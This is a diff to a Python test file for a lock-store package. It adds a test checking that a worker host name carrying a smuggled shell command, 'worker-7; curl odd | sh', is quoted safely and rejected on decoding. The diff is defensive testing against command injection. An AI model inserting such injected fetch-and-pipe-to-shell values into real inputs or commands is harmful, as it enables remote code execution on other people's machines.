@@ -11,6 +11,7 @@ import sys
 import threading
 import uuid
 from dataclasses import asdict, replace
+from datetime import UTC, datetime
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import TYPE_CHECKING, Any
 from urllib.parse import parse_qs, urlsplit
@@ -18,7 +19,10 @@ from urllib.parse import parse_qs, urlsplit
 import pytest
 
 from airflow_hivelock.locks.errors import CannotTell, InvalidRequest
+from airflow_hivelock.locks.model import Lease, Work
+from airflow_hivelock.ui.works import ask
 from airflow_hivelock.work import applications, hosts, pod
+from airflow_hivelock.work.applications import encode
 from airflow_hivelock.work.pod import Pod
 from airflow_hivelock.work.processes import Processes, _started
 from tests.airflow.test_keeper_frees import acquire, airflow, keep, works
@@ -38,6 +42,15 @@ UID, OTHER = (str(uuid.UUID(int=number)) for number in (1, 2))
 
 def elsewhere(**said: Any) -> Processes:
     return Processes(host="worker-7", **said)
+
+
+def test_a_command_to_copy_runs_no_part_of_a_hosts_name() -> None:
+    """Any client of the lock store can write a record."""
+    record = encode(Processes(host="worker-7; curl odd | sh"))
+    (answer,) = ask(Lease("id", 1, 1, 1, "ann", (), 60.0, datetime.now(UTC), (Work("load", record, 1),))).values()
+    assert answer.next.endswith("host-gone 'worker-7; curl odd | sh'")
+    with pytest.raises(CannotTell, match=r"host-gone 'worker-7; curl odd \| sh'$"):
+        applications.decode(record).running()
 
 
 class TestDeclared:
